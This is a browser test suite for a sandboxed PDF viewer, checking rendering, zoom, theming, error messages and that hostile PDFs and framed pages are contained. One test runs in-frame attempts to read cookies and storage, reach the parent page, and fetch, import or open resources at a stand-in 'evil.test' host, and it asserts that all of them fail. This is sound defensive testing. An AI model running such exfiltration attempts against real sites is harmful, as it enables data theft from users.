import type { AddressInfo } from 'node:net'
import fastify, { type FastifyInstance } from 'fastify'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { registerPdfAssets, writePdfPage } from '../../src/http/pdf-viewer.ts'
import { startChromium } from '../chromium.ts'
import { attach, listFiles } from '../files.ts'
import { makeActivePdf, makeLockedPdf, makePdf } from '../pdfs.ts'
import { openRecordedPage, type RecordedPage } from '../recorded-page.ts'
import { startService } from '../service.ts'

const pageCount = 12
const files: Record<string, Buffer> = {
  plain: makePdf(pageCount),
  locked: makeLockedPdf(),
  broken: Buffer.from('%PDF-1.7\nnonsense'),
  empty: Buffer.alloc(0),
}

let app: FastifyInstance
/** What reached a host that a PDF has no business with. */
const reachedEvil: string[] = []
let browser: Browser
let port: number
const originOf = (site: string) => `http://${site}.test:${port}`

beforeAll(async () => {
  app = fastify()
  registerPdfAssets(app)
  app.addHook('onRequest', (request, _reply, done) => {
    if (request.host.startsWith('evil')) reachedEvil.push(request.url)
    done()
  })
  app.get('/files/v1/view/:name', (request, reply) => {
    const { name } = request.params as { name: string }
    const { html, headers } = writePdfPage({
      filesOrigin: originOf('files'),
      publicOrigin: originOf('app'),
      bytesPath: `/files/v1/bytes/${name}`,
      fileName: `<b>"${name}"&'.pdf`,
    })
    return reply.headers(headers).send(html)
  })
  app.get('/files/v1/bytes/:name', (request, reply) => {
    const { name } = request.params as { name: string }
    reply.header('access-control-allow-origin', '*')
    const status = Number(name)
    if (status > 0) return reply.code(status).send('no')
    return reply.type('application/pdf').send(files[name])
  })
  app.get('/frame', (request, reply) => {
    const { of } = request.query as { of: string }
    const html = `<body><iframe src="${originOf('files')}/files/v1/view/${of}"></iframe></body>`
    return reply.type('text/html').send(html)
  })
  await app.listen({ port: 0, host: '127.0.0.1' })
  port = (app.server.address() as AddressInfo).port
  files.active = makeActivePdf(originOf('evil'))
  browser = await startChromium()
})
afterAll(async () => {
  await browser.close()
  await app.close()
})

async function view(name: string, url = `${originOf('files')}/files/v1/view/${name}`) {
  const recorded = await openRecordedPage(browser, { viewport: { width: 1_000, height: 800 } })
  await recorded.page.goto(url)
  return recorded
}

const drawn = (number: number) => `.page[data-number="${number}"][data-state="drawn"] canvas`

/** How many pixels of a page are not white. */
async function countInk(page: Page, number: number): Promise<number> {
  return await page.locator(drawn(number)).evaluate((element) => {
    // biome-ignore lint/suspicious/noExplicitAny: the tests know no types of a browser.
    const canvas = element as any
    const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height)
    let ink = 0
    for (let at = 0; at < data.length; at += 4) if (data[at] < 200) ink++
    return ink
  })
}

/** Of the page itself; Chromium's note about plain HTTP is none of its. */
function complaints({ said }: RecordedPage): string[] {
  return said.filter((line) => !line.startsWith('The Cross-Origin-Opener-Policy header'))
}

describe('a PDF', () => {
  test('is drawn, with its text over it, and nobody else is asked for anything', async () => {
    const recorded = await view('plain')
    const { page, requests } = recorded
    await page.waitForSelector(drawn(1))
    expect(await countInk(page, 1)).toBeGreaterThan(10_000)
    await page.waitForFunction("document.querySelector('.text span')?.textContent.length > 0")
    expect(await page.locator('.text').first().innerText()).toContain('Quarterly review, page 1')
    expect(await page.locator('#place').innerText()).toBe(`Page 1 of ${pageCount}`)
    expect(await page.locator('#message').isHidden()).toBe(true)
    expect(await page.title()).toBe(`<b>"plain"&'.pdf`)
    expect(complaints(recorded)).toEqual([])
    const elsewhere = requests.filter(
      (url) => !url.startsWith(`${originOf('files')}/files/v1/`) && !url.startsWith('blob:null/'),
    )
    expect(elsewhere).toEqual([])
    await recorded.close()
  })

  test('is drawn as it comes into view, and let go when it is far away', async () => {
    const { page, close } = await view('plain')
    await page.waitForSelector(drawn(1))
    expect(await page.locator('canvas').count()).toBeLessThan(pageCount / 2)
    await page.locator('#pages').press('End')
    await page.waitForSelector(drawn(pageCount))
    await page.waitForFunction(`document.getElementById('at').textContent === '${pageCount}'`)
    await page.waitForFunction(`document.querySelector('.page[data-number="1"] canvas') === null`)
    expect(await countInk(page, pageCount)).toBeGreaterThan(10_000)
    await close()
  })

  test('is made larger and smaller by keys', async () => {
    const { page, close } = await view('plain')
    await page.waitForSelector(drawn(1))
    const widthOf = async () => (await page.locator('.page').first().boundingBox())?.width ?? 0
    const width = await widthOf()
    await page.keyboard.press('+')
    expect(await widthOf()).toBeCloseTo(width * 1.25, 0)
    expect(await page.locator('#fit').innerText()).toBe('125%')
    await page.keyboard.press('0')
    expect(await page.locator('#fit').innerText()).toBe('Fit')
    await page.keyboard.press('-')
    expect(await widthOf()).toBeCloseTo(width * 0.75, 0)
    await page.keyboard.press('0')
    expect(await widthOf()).toBeCloseTo(width, 0)
    for (let press = 0; press < 12; press++) await page.keyboard.press('+')
    expect(await page.locator('#larger').isDisabled()).toBe(true)
    await close()
  })

  test('is shown in the theme of the page around it, also when that changes', async () => {
    const address = `${originOf('files')}/files/v1/view/plain`
    const { page, close } = await view('plain', `${address}#theme=dark`)
    await page.waitForSelector(drawn(1))
    const schemeOf = 'getComputedStyle(document.documentElement).colorScheme'
    expect(await page.evaluate(schemeOf)).toBe('dark')
    await page.evaluate("location.hash = '#theme=light'")
    await page.waitForFunction(`${schemeOf} === 'light'`)
    expect(await page.locator('canvas').count()).toBeGreaterThan(0)
    await page.evaluate("location.hash = '#theme=x'")
    await page.waitForFunction(`${schemeOf} === 'light dark'`)
    await close()
  })

  test('fits a telephone', async () => {
    const { page, close } = await view('plain')
    await page.setViewportSize({ width: 390, height: 844 })
    await page.waitForSelector(drawn(1))
    await page.waitForFunction("document.querySelector('.page').offsetWidth <= 390")
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(390)
    await close()
  })

  test.each([
    ['locked', /locked with a password/],
    ['broken', /damaged/],
    ['empty', /damaged/],
    ['404', /link to this file has expired/],
    ['503', /cannot be read at the moment/],
  ])('that is %s is said to be', async (name, message) => {
    const { page, close } = await view(name)
    await page.waitForSelector('body[data-state="failed"]')
    expect(await page.locator('#message').innerText()).toMatch(message)
    await close()
  })
})

test('a PDF of a task is drawn by its link, and its bytes by no other', async () => {
  const service = await startService()
  try {
    const client = await service.makeClient()
    const content = makePdf(2).toString('base64')
    const file = { fileName: 'a.pdf', mimeType: 'application/pdf', content }
    const { taskId } = await attach(service, client, [file])
    const [shown] = await listFiles(service, client, taskId)
    const recorded = await view('', shown.links.view)
    await recorded.page.waitForSelector(drawn(1))
    expect(await countInk(recorded.page, 1)).toBeGreaterThan(10_000)
    expect(complaints(recorded)).toEqual([])
    expect(recorded.requests.filter((url) => url.includes('/bytes/'))).toHaveLength(1)
    await recorded.close()
  } finally {
    await service.stop()
  }
})

describe('a PDF that wants to do something', () => {
  test('runs nothing, opens nothing and asks for nothing, also when it is clicked', async () => {
    const recorded = await view('active')
    const { page, requests } = recorded
    const happened: string[] = []
    for (const event of ['dialog', 'popup', 'download', 'filechooser'] as const)
      page.on(event as 'popup', () => happened.push(event))
    page.on('framenavigated', () => happened.push('navigation'))
    await page.waitForSelector(drawn(1))
    await page.waitForSelector('.text span')
    expect(await countInk(page, 1)).toBeGreaterThan(500)
    const box = await page.locator('.page').boundingBox()
    for (let down = 0.02; down < 0.9; down += 0.06)
      for (const across of [0.04, 0.2, 0.5, 0.8])
        await page.mouse.click(
          (box?.x ?? 0) + (box?.width ?? 0) * across,
          (box?.y ?? 0) + Math.min((box?.height ?? 0) * down, 700),
        )
    expect(happened).toEqual([])
    expect(await page.locator('a, form, input, iframe, embed, object, img').count()).toBe(0)
    expect(requests.filter((url) => /evil|launch|submit|import|gotor/.test(url))).toEqual([])
    expect(reachedEvil).toEqual([])
    expect(complaints(recorded)).toEqual([])
    await recorded.close()
  })

  test('has a page of no origin, which may read, keep and send nothing', async () => {
    const { page, close } = await view('plain', `${originOf('app')}/frame?of=plain`)
    const frame = page.frames()[1]
    await frame?.waitForSelector(drawn(1))
    const tried = await frame?.evaluate(`(async () => {
      const attempt = async (act) => {
        try { return String(await act()) } catch (error) { return error.name }
      }
      return {
        origin: self.origin,
        cookie: await attempt(() => document.cookie),
        storage: await attempt(() => localStorage.length),
        database: await attempt(() => new Promise((done, fail) => {
          const open = indexedDB.open('x')
          open.onsuccess = done
          open.onerror = () => fail(open.error)
        })),
        parent: await attempt(() => parent.document.title),
        top: await attempt(() => { top.location.href = 'http://evil.test:${port}/top' }),
        send: await attempt(() => fetch('http://evil.test:${port}/send', { mode: 'no-cors' })),
        image: await attempt(() => new Promise((done, fail) => {
          const image = new Image()
          image.onload = done
          image.onerror = () => fail(new TypeError())
          image.src = 'http://evil.test:${port}/image'
        })),
        eval: await attempt(() => (0, eval)('1')),
        popup: String(open('http://evil.test:${port}/popup')),
        script: await attempt(() => import('http://evil.test:${port}/script.js')),
      }
    })()`)
    expect(tried).toEqual({
      origin: 'null',
      cookie: 'SecurityError',
      storage: 'SecurityError',
      database: expect.stringMatching(/Error/),
      parent: 'SecurityError',
      top: 'SecurityError',
      send: 'TypeError',
      image: 'TypeError',
      eval: 'EvalError',
      popup: 'null',
      script: 'TypeError',
    })
    expect(page.url()).toBe(`${originOf('app')}/frame?of=plain`)
    expect(reachedEvil).toEqual([])
    await close()
  })

  test('is framed by nobody but the service', async () => {
    const { page, close } = await view('plain', `${originOf('evil')}/frame?of=plain`)
    await page.waitForLoadState('networkidle')
    expect(page.frames()[1]?.url()).toMatch(/^chrome-error:/)
    await close()
  })
})
